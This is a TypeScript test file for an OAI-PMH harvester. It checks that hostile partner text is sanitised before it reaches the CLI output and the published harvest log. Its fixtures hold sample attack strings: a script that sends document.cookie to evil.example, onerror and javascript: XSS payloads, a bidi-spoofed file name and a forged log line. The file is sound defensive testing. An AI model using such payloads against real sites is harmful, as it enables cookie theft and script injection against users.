// A hostile partner's text (OAI-PMH <error> messages and codes, HTTP reason phrases, resumption tokens) reaches the
// terminal and the published harvest-log.json only cleaned and cut (harvester/partner-text.ts): no markup, no
// control or bidi characters, no line breaks, at most a few hundred characters. Real partner on 127.0.0.1.
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { cleanMessage, cleanPartnerText } from '../../harvester/partner-text.ts';
import { runCli } from '../submission/helpers.ts';
import { fixture, startReplayServer, type ReplayServer } from './helpers/servers.ts';

const servers: ReplayServer[] = [];
const dirs: string[] = [];
afterEach(async () => {
  await Promise.all(servers.splice(0).map((s) => s.close()));
  await Promise.all(dirs.splice(0).map((d) => rm(d, { recursive: true, force: true })));
});

const identify = fixture('valid/oai/sickle/Identify.xml');
const hostile =
  `&lt;script&gt;fetch('//evil.example/'+document.cookie)&lt;/script&gt;&lt;img ` +
  `src=x onerror=alert(1)&gt;&#x202E;gnp.exe&#x7; line one&#xA;ERROR forged ` +
  `line&#x85;${'padding '.repeat(2000)}`;
const oaiError = (code: string, message: string) =>
  `<?xml version="1.0" encoding="UTF-8"?><OAI-PMH ` +
  `xmlns="http://www.openarchives.org/OAI/2.0/"><responseDate>` +
  `2026-01-01T00:00:00Z</responseDate><request verb="ListRecords">` +
  `http://x/oai</request><error code="${code}">${message}</error></OAI-PMH>`;

/** What must hold for any partner text that was published or printed. */
function expectClean(text: string, maxLength: number) {
  expect(text).not.toMatch(/[<>]/);
  // Cc: C0 and C1 controls (terminal escapes, line ends); Cf: bidi overrides, zero-width characters.
  expect(text).not.toMatch(/[\p{Cc}\p{Cf}\u2028\u2029]/u);
  expect([...text].length).toBeLessThanOrEqual(maxLength);
}

async function harvestHostile(reply: Parameters<typeof startReplayServer>[0] | string) {
  let url = reply;
  if (typeof url !== 'string') {
    const server = await startReplayServer(url);
    servers.push(server);
    url = server.url;
  }
  const catalog = await mkdtemp(join(tmpdir(), 'harvest-hostile-'));
  dirs.push(catalog);
  const result = await runCli(['harvest', url, '--catalog', catalog]);
  const log = JSON.parse(await readFile(join(catalog, 'harvest-log.json'), 'utf8')) as {
    partners: Record<
      string,
      { lastError: string; lastErrorCode: string; runs: { error: string; errorCode: string }[] }
    >;
  };
  return { result, entry: Object.values(log.partners)[0] };
}

describe('cleanPartnerText', () => {
  it.each([
    ['<b>bold</b> text', 'bold text'],
    ['a\u001b[2Jb', 'a [2Jb'],
    ['left\u202Eright', 'left right'],
    ['one\r\ntwo\u2028three', 'one two three'],
    ['&lt;tag&gt; &amp; more', 'tag more'],
    ['?verb=ListRecords&metadataPrefix=oai_dc', '?verb=ListRecords&metadataPrefix=oai_dc'],
  ])('%j -> %j', (text, expected) => expect(cleanPartnerText(text)).toBe(expected));

  it('cuts to the length asked, with an ellipsis', () => {
    const cut = cleanPartnerText('x'.repeat(1000), 50);
    expect([...cut]).toHaveLength(50);
    expect(cut.endsWith('…')).toBe(true);
  });
});

describe('cleanMessage', () => {
  it('keeps the element names the harvester quotes readable, as text', () => {
    expect(cleanMessage("the root element is <html> in namespace ''\u001b[2J\r\nERROR next")).toBe(
      "the root element is \u2039html\u203a in namespace '' [2J ERROR next",
    );
  });
});

describe('a hostile partner', () => {
  it(
    "cannot put markup or control characters into harvest-log.json or the CLI's " + 'error through an OAI-PMH <error>',
    async () => {
      const { result, entry } = await harvestHostile((q) =>
        q.get('verb') === 'Identify' ? identify : oaiError('badArgument', hostile),
      );
      expect(result.code).toBe(2);
      expectClean(entry.lastError, 300);
      expect(entry.lastErrorCode).toBe('badArgument');
      expect(entry.runs[0].errorCode).toBe('badArgument');
      expect(entry.lastError).toContain('badArgument');
      const errorLines = result.stderr.split('\n').filter((line) => line.includes('badArgument'));
      expect(errorLines).toHaveLength(1);
      expectClean(errorLines[0], 1000);
      expect(result.stderr).not.toMatch(/^ERROR forged line/m);
    },
  );

  it('cannot choose the error code published', async () => {
    const { entry } = await harvestHostile((q) =>
      q.get('verb') === 'Identify' ? identify : oaiError('&lt;img src=x onerror=alert(1)&gt;', 'no'),
    );
    expectClean(entry.lastError, 300);
    expect(entry.lastErrorCode).toBe('OAI_ERROR');
  });

  it('cannot put markup into them through an HTTP reason phrase', async () => {
    const server = createServer((request, response) => {
      if (request.url?.includes('Identify')) response.writeHead(200, { 'content-type': 'text/xml' }).end(identify);
      else
        response
          .writeHead(403, `<a href="javascript:alert(1)">Forbidden</a>${'x'.repeat(500)}`, {
            'content-type': 'text/html',
          })
          .end('<html><script>alert(1)</script></html>');
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    servers.push({ close: () => new Promise<void>((resolve) => server.close(() => resolve())) } as ReplayServer);
    const { result, entry } = await harvestHostile(`http://127.0.0.1:${(server.address() as AddressInfo).port}/oai`);
    expectClean(entry.lastError, 300);
    expect(entry.lastErrorCode).toBe('HTTP_403');
    expect(result.stderr).not.toContain('<script>');
  });
});
